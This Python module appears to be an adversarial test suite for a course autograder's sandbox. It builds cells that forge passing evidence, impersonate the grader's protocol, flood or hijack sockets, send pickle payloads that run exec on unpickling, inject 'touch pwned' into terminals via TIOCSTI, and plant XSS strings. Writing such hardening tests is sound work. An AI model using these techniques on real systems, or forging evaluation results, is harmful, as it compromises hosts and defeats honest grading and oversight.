"""Attacks on the way from the child to the grader: forged, broken, endless and poisoned messages."""

from __future__ import annotations

from attacks.bank import HONEST, LOOT, NAME, TARGET, WRONG, Cells, World, attack, cell

DESCRIPTORS = cell("""
    import contextlib, fcntl, json, os, pickle, socket, struct, sys, time
    import torch

    def sockets():
        for descriptor in range(3, 256):
            with contextlib.suppress(OSError):
                if os.readlink(f"/proc/self/fd/{descriptor}").startswith("socket:"):
                    yield descriptor

    def send(data, most=2**27):
        data = memoryview(data)[:most]
        for descriptor in [1, 2, *sockets()]:
            with contextlib.suppress(OSError):
                os.set_blocking(descriptor, False)
                sent = 0
                while sent < len(data):
                    sent += os.write(descriptor, data[sent : sent + 65536])

    LENGTHS = ("<I", ">I", "<Q", ">Q")

    def frames(payload):
        return [struct.pack(kind, len(payload)) + payload for kind in LENGTHS]
""")
"""Finds every socket of the process, and what a frame may look like."""


@attack("sends evidence of its own before that of the grader's")
def forge_frames(world: World) -> Cells:
    return [
        DESCRIPTORS,
        WRONG,
        cell(f"""
            from course_utils.exercise import Evidence
            from course_utils.lessons import exercise
            from course_utils.plain import to_bytes, to_plain
            task = exercise("{TARGET}")
            evidence = [Evidence(case.name, "returned", to_plain(torch.zeros(case.spec["d"])), {{"autograd": []}}).to_plain()
                        for case in task.cases(0)]
            said = [
                {{"evidence": {{"{TARGET}": evidence}}}},
                {{"kind": "evidence", "exercise": "{TARGET}", "evidence": evidence}},
                {{"exercise": "{TARGET}", "outcome": "passed", "points": 15}},
                evidence,
            ]
            for item in said:
                with contextlib.suppress(Exception):
                    for frame in frames(to_bytes(item)):
                        send(frame)
        """),
    ]


@attack("closes every descriptor it has")
def close_everything(world: World) -> Cells:
    return ["import os\nos.closerange(0, 4096)", WRONG]


@attack("closes every descriptor while it is observed")
def close_everything_while_observed(world: World) -> Cells:
    return [f"def {NAME}(w, x, y):\n    import os\n    os.closerange(0, 4096)\n    return w * 0"]


@attack("shuts the socket down for both sides")
def shut_the_socket(world: World) -> Cells:
    return [
        DESCRIPTORS,
        cell("""
            for descriptor in sockets():
                with contextlib.suppress(OSError):
                    socket.socket(fileno=os.dup(descriptor)).shutdown(socket.SHUT_RDWR)
        """),
        WRONG,
    ]


@attack("sends 128 MB of nonsense")
def flood_the_socket(world: World) -> Cells:
    return [DESCRIPTORS, "send(os.urandom(2**20) * 128)", WRONG]


@attack("sends for ever, as fast as it can")
def flood_for_ever(world: World) -> Cells:
    return [
        DESCRIPTORS,
        cell("""
            junk = b"\\xff" * 65536
            every = [1, 2, *sockets()]
            while True:
                for descriptor in every:
                    with contextlib.suppress(OSError):
                        os.set_blocking(descriptor, False)
                        os.write(descriptor, junk)
        """),
    ]


@attack("sends a million empty frames")
def empty_frames(world: World) -> Cells:
    return [DESCRIPTORS, 'send(b"\\0" * 8_000_000)', WRONG]


@attack("sends a frame byte by byte, slower than anybody waits")
def slow_frames(world: World) -> Cells:
    return [
        DESCRIPTORS,
        cell("""
            while True:
                send(b"\\x10")
                time.sleep(0.02)
        """),
    ]


@attack("sends pickles that write to the host when they are read")
def send_pickles(world: World) -> tuple[Cells, ...]:
    bomb = f"""
class Bomb:
    def __reduce__(self):
        return (exec, ("open({str(world.folder / "pickled")!r}, 'w').write('x')",))
torch.save(Bomb(), "bomb.pt")
"""
    return tuple(
        _instead(payload, bomb)
        for payload in ("pickle.dumps(Bomb())", "pickle.dumps(Bomb(), 0)", "open('bomb.pt', 'rb').read()")
    )


@attack("returns objects that write to the host when they are unpickled")
def return_pickles(world: World) -> Cells:
    return [
        cell(f"""
            import torch

            class Bomb(torch.Tensor):
                def __reduce__(self):
                    return (exec, ("open({str(world.folder / "pickled")!r}, 'w').write('x')",))
                __reduce_ex__ = lambda self, protocol: self.__reduce__()
                __getstate__ = __deepcopy__ = __reduce__

            def {NAME}(w, x, y):
                return torch.zeros_like(w).as_subclass(Bomb)

            def gradient_descent(f, x0, lr, steps):
                return type("Bomb", (), {{"__reduce__": Bomb.__reduce__}})()
        """)
    ]


def _instead(payload: str, before: str = "") -> Cells:
    """Whatever evidence the child wanted to send, it sends `payload`."""
    return [
        DESCRIPTORS + before,
        WRONG,
        cell(f"""
            payload = {payload}
            import course_utils.plain as plain
            original = plain.to_bytes
            for module in list(sys.modules.values()):
                if getattr(module, "to_bytes", None) is original:
                    module.to_bytes = lambda value: payload
        """),
    ]


@attack("answers with JSON that is nested a hundred thousand deep")
def deep_evidence(world: World) -> Cells:
    return _instead("(lambda tree: len(tree).to_bytes(8, 'little') + tree)(b'[' * 100_000 + b']' * 100_000)")


@attack("answers with a number of five million digits")
def long_numbers(world: World) -> Cells:
    return _instead("(lambda tree: len(tree).to_bytes(8, 'little') + tree)(b'1' * 5_000_000)")


@attack("answers with tensors whose header lies about their size and place")
def headers_that_lie(world: World) -> Cells:
    return _instead(
        """(lambda tree, header: len(tree).to_bytes(8, 'little') + tree + len(header).to_bytes(8, 'little') + header)(
            b'{"$": "tensor", "key": "0", "at": ["cpu", false, false]}',
            b'{"0": {"dtype": "F64", "shape": [1152921504606846976, 16], "data_offsets": [0, 18446744073709551615]}}')"""
    )


@attack("answers with a header of tensors that is said to be 2**60 bytes long")
def huge_headers(world: World) -> Cells:
    return _instead("(2).to_bytes(8, 'little') + b'{}' + (2**60).to_bytes(8, 'little') + b'{}'")


@attack("answers with a shape of 18 million million million empty entries")
def empty_and_huge(world: World) -> Cells:
    return _instead(
        """(lambda tree, header: len(tree).to_bytes(8, 'little') + tree + len(header).to_bytes(8, 'little') + header)(
            b'{"$": "tensor", "key": "0", "at": ["cpu", false, false]}',
            b'{"0": {"dtype": "F64", "shape": [4611686018427387904, 0], "data_offsets": [0, 0]}}')"""
    )


@attack("answers with evidence whose fields are of other types")
def evidence_of_other_types(world: World) -> Cells:
    return [
        WRONG,
        cell("""
            import sys
            from course_utils.exercise import Evidence
            odd = iter([
                {"case": [], "status": "returned", "result": None, "facts": [], "changes": 3, "raised": "x"},
                {"case": "x", "status": {}, "result": {}, "facts": {}, "changes": [[]], "raised": {}},
                {"case": "x", "status": "raised", "raised": {"frames": [{"line": "1e999"}], "type": {}, "message": None}},
                [], None, 7, "text", {"": ""},
            ] * 100)
            Evidence.to_plain = lambda self: next(odd)
        """),
    ]


@attack("answers with evidence that gives the exercise's facts other types and no meaning", heavy=True)
def facts_of_other_types(world: World) -> Cells:
    return [
        WRONG,
        cell("""
            def gradient_descent(f, x0, lr, steps):
                return {"steps": steps}

            def parameter_gradients(model, loss_fn, x, y):
                return [1, 2]

            def find_cuts(stations, x):
                return {"0": float("nan")}

            from course_utils.exercise import Evidence
            original = Evidence.to_plain

            def forged(self):
                plain = original(self)
                plain["facts"] = {name: value for name in plain["facts"] for value in [{"x": [None, "x", -1]}]}
                plain["probes"] = {"again": ["other", {"x": None}], "w": ["same", []], "": ["not", 3]}
                plain["changes"] = [{"what": "w", "aspect": "value", "before": "0", "after": "1"}] * 200
                plain["warned"] = ["x" * 1_000] * 10
                return plain

            Evidence.to_plain = forged
        """),
    ]


@attack("sends its descriptors over the socket, until the grader has no more")
def send_descriptors(world: World) -> Cells:
    return [
        DESCRIPTORS,
        WRONG,
        cell("""
            import array
            spare = [os.open("/dev/null", os.O_RDONLY) for _ in range(200)]
            for descriptor in sockets():
                line = socket.socket(fileno=os.dup(descriptor))
                line.setblocking(False)
                for _ in range(100):
                    with contextlib.suppress(OSError):
                        line.sendmsg([b"\\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", spare))])
            for descriptor in spare:
                os.close(descriptor)
        """),
    ]


@attack("reads the cases from the socket before its cells are through")
def read_cases_ahead(world: World) -> Cells:
    return [
        DESCRIPTORS,
        LOOT,
        cell("""
            for descriptor in sockets():
                with contextlib.suppress(OSError):
                    os.set_blocking(descriptor, False)
                    look(os.read(descriptor, 2**20))
                    os.set_blocking(descriptor, True)
        """),
        cell(f"""
            def {NAME}(w, x, y):
                for descriptor in sockets():
                    with contextlib.suppress(OSError):
                        os.set_blocking(descriptor, False)
                        look(os.read(descriptor, 2**20))
                print(loot)
                return w * 0
        """),
    ]


@attack("waits for the cases in a cell, and keeps them from the grader's code")
def swallow_the_cases(world: World) -> Cells:
    return [
        DESCRIPTORS,
        WRONG,
        cell("""
            import select
            every = list(sockets())
            while True:
                for descriptor in select.select(every, [], [], 1.0)[0]:
                    with contextlib.suppress(OSError):
                        os.read(descriptor, 2**20)
        """),
    ]


@attack("puts a socket of its own where the grader's was")
def put_another_in_its_place(world: World) -> Cells:
    return [
        DESCRIPTORS,
        WRONG,
        cell("""
            ours, theirs = socket.socketpair()
            for descriptor in list(sockets()):
                if descriptor not in (ours.fileno(), theirs.fileno()):
                    os.dup2(theirs.fileno(), descriptor)
            ours.sendall(b"\\0" * 4096)
        """),
    ]


@attack("makes the descriptors that it shares with others non-blocking, cuts and moves them")
def spoil_shared_descriptors(world: World) -> Cells:
    return [
        DESCRIPTORS,
        cell("""
            for descriptor in range(0, 256):
                with contextlib.suppress(OSError):
                    flags = fcntl.fcntl(descriptor, fcntl.F_GETFL)
                    fcntl.fcntl(descriptor, fcntl.F_SETFL, flags | os.O_NONBLOCK | os.O_ASYNC | os.O_APPEND)
                with contextlib.suppress(OSError):
                    fcntl.fcntl(descriptor, fcntl.F_SETOWN, 1)
                with contextlib.suppress(OSError):
                    os.lseek(descriptor, 10**6, os.SEEK_SET)
                with contextlib.suppress(OSError):
                    os.ftruncate(descriptor, 0)
                with contextlib.suppress(OSError):
                    fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
                for option in (socket.SO_RCVBUF, socket.SO_SNDBUF, socket.SO_LINGER, socket.SO_PASSCRED):
                    with contextlib.suppress(OSError):
                        socket.socket(fileno=os.dup(descriptor)).setsockopt(socket.SOL_SOCKET, option, 1)
        """),
        WRONG,
    ]


@attack("speaks to the warm process as if it were the grader")
def command_the_server(world: World) -> Cells:
    return [
        DESCRIPTORS,
        WRONG,
        cell("""
            orders = [{"run": "import os; os._exit(0)"}, {"kind": "exit"}, {"kind": "close"}, {"quit": True}, "stop", None]
            for order in orders:
                for frame in frames(json.dumps(order).encode()):
                    send(frame)
            # Whatever the warm process had open when it forked, this process has open too.
            for descriptor in range(0, 1024):
                with contextlib.suppress(OSError):
                    os.write(descriptor, b"\\0\\0\\0\\4quit")
        """),
    ]


@attack("writes commands for the instructor's terminal to the raw descriptors")
def write_to_the_terminal(world: World) -> Cells:
    return [
        cell(f"""
            import fcntl, os, termios
            words = b"\\x1b]0;{world.marker}\\x07\\x1b[2J{world.marker}\\n"
            for descriptor in (0, 1, 2):
                try:
                    os.write(descriptor, words)
                except OSError:
                    pass
            for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/stdout", "/proc/1/fd/1", "/proc/1/fd/2", "/dev/kmsg"):
                try:
                    descriptor = os.open(name, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
                    os.write(descriptor, words)
                    for byte in b"touch pwned\\n":
                        fcntl.ioctl(descriptor, termios.TIOCSTI, bytes([byte]))
                except OSError:
                    pass
        """),
        WRONG,
    ]


@attack("says more once its evidence is through, for the next one to be blamed")
def speak_after_the_end(world: World) -> tuple[Cells, ...]:
    return (
        [
            DESCRIPTORS,
            cell(f"""
                import atexit, threading

                def later():
                    while True:
                        time.sleep(0.005)
                        send(b"\\0\\0\\0\\2{{}}")

                def {NAME}(w, x, y):
                    threading.Thread(target=later).start()
                    atexit.register(later)
                    return w * 0
            """),
        ],
        [HONEST.replace("2 * x", "3 * x")],
    )


WIRE = DESCRIPTORS + cell("""
    from course_utils.grading.jail import wire

    def say(kind, said):
        payload = said if isinstance(said, bytes) else json.dumps(said).encode()
        for descriptor in sockets():
            with contextlib.suppress(OSError):
                os.write(descriptor, wire.frame(kind, payload))
""")
"""Speaks the grader's own protocol."""

INSTEAD = cell("""
    instead = {}
    notice = wire.notice
    wire.notice = lambda kind, said: notice(kind, instead.get(kind, said))
""")
"""Says something else in place of what the grader's code in the child says."""


@attack("says in the grader's own words that a cell failed with things that are no words")
def odd_failures(world: World) -> tuple[Cells, ...]:
    odd = [
        {},
        {"cell": [], "kind": {}, "type": 5, "message": None, "frames": 3},
        {"cell": 10**400, "kind": "raised", "type": "\ud800", "message": "\udfff" * 10, "frames": [[{}, [], None]]},
        {
            "cell": -1,
            "kind": "stopped",
            "type": "x" * 900_000,
            "message": "",
            "frames": [["f", float("inf"), "x"]] * 1000,
        },
        {"cell": 1, "kind": "raised", "type": "<script>", "message": {"a": 1}, "frames": [[]]},
        {"cell": 1, "kind": "raised", "type": "{0.__class__}", "message": "%s%n{}", "frames": [["f", True, None], 7]},
        {"cell": 1, "kind": ["raised"], "type": [], "message": [], "frames": {}},
    ]
    return tuple(
        [WIRE, WRONG, INSTEAD, f"inf = float('inf')\ninstead[wire.FAILED] = {ascii(said)}", "1 / 0"] for said in odd
    )


@attack("says in the grader's own words that its functions are things that no function is")
def odd_findings(world: World) -> tuple[Cells, ...]:
    odd = [
        {},
        {"1.2": {}},
        {"1.2": {"state": {}, "code": 5, "type": []}, "9.9": {"state": "found"}},
        {"1.2": {"state": "found", "code": "\ud800" * 100}},
        {"1.2": {"state": "no function", "type": "<script>alert('pwned')</script>" * 10_000}},
        {"1.2": {"state": "x" * 900_000, "type": None}},
    ]
    return tuple([WIRE, WRONG, INSTEAD, f"instead[wire.FOUND] = {ascii(said)}"] for said in odd)


@attack("says that it is done without any evidence, or twice, or begins again", heavy=True)
def done_too_early(world: World) -> tuple[Cells, ...]:
    return (
        [WIRE, WRONG, "say(wire.READY, b''); say(wire.FAULT, 'no sandbox here')"],
        [WIRE, WRONG, "say(wire.FOUND, {}); say(wire.DONE, b''); say(wire.DONE, b'')"],
        [WIRE, WRONG, "say(wire.CELL, 2); say(wire.CELL, 99); say(wire.CELL, -1); say(wire.CELL, True)"],
        [WIRE, WRONG, "say(wire.FOUND, {}); say(wire.EXERCISE, '1.2'); say(wire.EXERCISE, '1.2')"],
    )


@attack("sends frames that say they are huge, of kinds that there are not, or that end early")
def lengths_that_lie(world: World) -> tuple[Cells, ...]:
    lies = (
        "wire.HEAD.pack(wire.EVIDENCE, 2**32 - 1)",
        "wire.HEAD.pack(wire.CELL, 2**31)",
        "wire.HEAD.pack(wire.FAILED, 2**20 + 1) + b'x' * 2**20",
        "wire.HEAD.pack(wire.FAILED, 100) + b'{'",
        "wire.HEAD.pack(b'?', 0) * 1000",
        "wire.HEAD.pack(wire.FAILED, 0) * 300_000",
    )
    return tuple(
        [WIRE, WRONG, f"for descriptor in sockets():\n    send({lie})", HONEST.replace("2 * x", "0 * x")]
        for lie in lies
    )


@attack("says ever again that a new case begins, and so never runs out of time")
def cases_without_end(world: World) -> Cells:
    return [
        WIRE,
        cell(f"""
            def {NAME}(w, x, y):
                while True:
                    say(wire.CASE, b"")
                    time.sleep(0.01)
        """),
    ]


@attack("plays the whole part of the grader's code by itself, with evidence of its own making")
def play_the_grader(world: World) -> Cells:
    return [
        WIRE,
        WRONG,
        cell("""
            from course_utils.exercise import Evidence
            from course_utils.plain import to_bytes, to_plain
            line = socket.socket(fileno=os.dup(next(sockets())))
            wire.send(line, wire.notice(wire.FOUND, {"1.2": {"state": "found", "code": "def linear_mse_gradient"}}))
            kind, payload = wire.receive(line)
            cases = json.loads(payload)["1.2"]
            wire.send(line, wire.notice(wire.EXERCISE, "1.2"))
            made = [Evidence(name, "returned", to_plain(torch.zeros(spec["d"], dtype=torch.float64)), {"autograd": [], "answer": [spec]}).to_plain()
                    for name, spec in cases]
            wire.send(line, wire.frame(wire.EVIDENCE, to_bytes(made)))
            wire.send(line, wire.frame(wire.DONE))
            os._exit(0)
        """),
    ]


@attack("gives evidence on which the judge works for ever")
def work_for_the_judge(world: World) -> Cells:
    return [f"def {NAME}(w, x, y):\n    return {{str(number): float(number) for number in range(15_000)}}"]


@attack("gives evidence that is large, long or deep where it should be small, in every way", heavy=True)
def much_work_for_the_judge(world: World) -> tuple[Cells, ...]:
    made = (
        "torch.randn(250_000)",
        "torch.randint(-100, 100, (2_000_000,), dtype=torch.int8)",
        "[torch.randn(1)] * 15_000",
        "[str(number) * 50 for number in range(9_000)]",
        "[[float('nan')] * 100] * 150",
    )
    return tuple(
        [
            f"import torch\n\ndef {NAME}(w, x, y):\n    return {result}",
            f"def gradient_descent(f, x0, lr, steps):\n    return {result}",
            f"def parameter_gradients(model, loss_fn, x, y):\n    return {{name: {result} for name, _ in model.named_parameters()}}",
        ]
        for result in made
    )
